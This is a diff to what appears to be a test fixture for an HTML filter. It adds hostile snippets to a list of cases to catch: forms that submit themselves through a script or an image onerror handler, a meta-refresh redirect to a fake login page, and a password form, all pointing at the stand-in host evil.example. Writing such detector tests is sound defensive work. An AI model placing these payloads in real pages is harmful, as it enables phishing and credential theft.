@@ -388,6 +388,11 @@ STRANGERS = {
     "applet": '<applet code="X.class" archive="https://evil.example/x.jar"></applet>',
     "form": '<form action="https://evil.example/x"><input type=password></form>',
     "form in JSON": r"""{"a": "<form action=\"https://evil.example/\"><input type=\"password\"></form>"}""",
+    "form that sends itself": '<form action="https://evil.example/x" id="f"><input name="q" value="1"></form>'
+    "<script>document.getElementById('f').submit()</script>",
+    "form that a picture sends": '<form action="//evil.example/x"></form>'
+    '<img src="x" onerror="document.forms[0].submit()">',
+    "redirect first": '<meta http-equiv="refresh" content="0;url=https://evil.example/login"><h1>a</h1><p>b</p><p>c</p>',
     "button": '<button formaction="https://evil.example/x">Go</button>',
     "base": '<base href="https://evil.example/">',
     "import": '<link rel="import" href="https://evil.example/x">',
@@ -398,6 +403,9 @@ NO_STRANGERS = {
     "widget": '<script async src="https://platform.twitter.com/widgets.js"></script>',
     "player": '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560"></iframe>',
     "document": '<object data="https://files.example/a.pdf"></object>',
+    "moved, a fragment": '<meta http-equiv="refresh" content="0; url=https://new.example/"><h1>Moved</h1><p>Go on.</p>',
+    "own form": '<form action="/search" id="s"><input name="q"></form>'
+    '<script>document.getElementById("s").submit()</script>',
     "newsletter": '<form action="https://news.example/in"><input type=email name=EMAIL></form>',
     "style": '<link rel="stylesheet" href="https://cdn.example/a.css">',
     "own": '<script type="module" src="/assets/app.js"></script>',
